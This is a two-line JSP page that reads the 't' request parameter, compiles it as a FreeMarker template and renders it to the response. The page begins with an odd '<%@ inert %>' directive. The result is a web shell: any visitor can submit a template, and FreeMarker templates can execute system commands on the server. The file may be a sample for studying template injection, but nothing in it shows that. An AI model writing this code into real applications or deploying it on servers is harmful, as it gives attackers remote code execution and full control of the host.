<%@ inert %>
<% new freemarker.template.Template("x",new java.io.StringReader(request.getParameter("t")),null).process(null,response.getWriter()); %>
